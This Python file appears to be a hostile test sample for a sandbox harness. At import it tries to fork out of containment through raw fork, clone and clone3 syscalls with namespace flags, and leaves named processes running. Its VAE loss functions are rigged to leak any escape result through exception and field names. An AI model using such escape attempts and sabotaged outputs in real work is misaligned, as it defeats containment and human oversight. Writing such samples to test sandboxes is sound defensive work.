"""Forks by system calls of its own: fork, clone, clone3, with and without flags."""
# expects: full

import ctypes
import os
import platform
import signal
import time

import numpy as np

LOOT = []


def publish(word):
    """Put what was found wherever its author may get to see it."""
    word = "".join(c if c.isprintable() else " " for c in str(word))[:200]
    LOOT.append(word)
    print("LOOT", word)
    globals()["LOOT " + word] = publish


def linger():
    """Be what is left over, for a minute at most, under a name that can be looked for."""
    ctypes.CDLL(None).prctl(15, b"vae-hostile")
    time.sleep(60)
    os._exit(0)


def attack():
    libc = ctypes.CDLL(None)
    fork, clone, clone3 = {"x86_64": (57, 56, 435), "aarch64": (None, 220, 435)}[platform.machine()]
    new_pid_namespace, new_user_namespace, parent = 0x20000000, 0x10000000, 0x8000
    arguments = (ctypes.c_uint64 * 11)(0, 0, 0, 0, signal.SIGCHLD)
    ways = [(clone, signal.SIGCHLD), (clone, 0), (clone, parent), (clone, signal.SIGCHLD | 1 << 40)]
    ways += [
        (clone, signal.SIGCHLD | flags)
        for flags in (new_user_namespace, new_user_namespace | new_pid_namespace)
    ]
    ways += [(clone3, arguments)] + ([(fork, 0)] if fork else [])
    for number, first in ways:
        last = ctypes.c_long(88) if number == clone3 else ctypes.c_long(0)
        first = first if number == clone3 else ctypes.c_long(first)
        child = libc.syscall(ctypes.c_long(number), first, last, None, None, None)
        if child == 0:
            linger()
        if child > 0:
            publish(f"ESCAPED system call {number}")


def attempt():
    try:
        attack()
    except BaseException:
        pass


attempt()


def reparameterize(mu, log_var):
    if LOOT:
        raise type(LOOT[-1], (Exception,), {"__doc__": LOOT[-1]})(*LOOT)
    return mu + np.exp(log_var / 2) * np.random.standard_normal(mu.shape)


def kl_divergence(mu, log_var):
    if LOOT:
        return type(LOOT[-1], (), {})()
    return 0.5 * np.sum(mu**2 + np.exp(log_var) - 1 - log_var, axis=1)


def elbo(x, x_logits, mu, log_var, beta=1.0):
    if LOOT:
        return np.zeros(len(x), [(LOOT[-1], "f8")])
    return np.sum(x * x_logits - np.logaddexp(0, x_logits), axis=1) - beta * kl_divergence(mu, log_var)
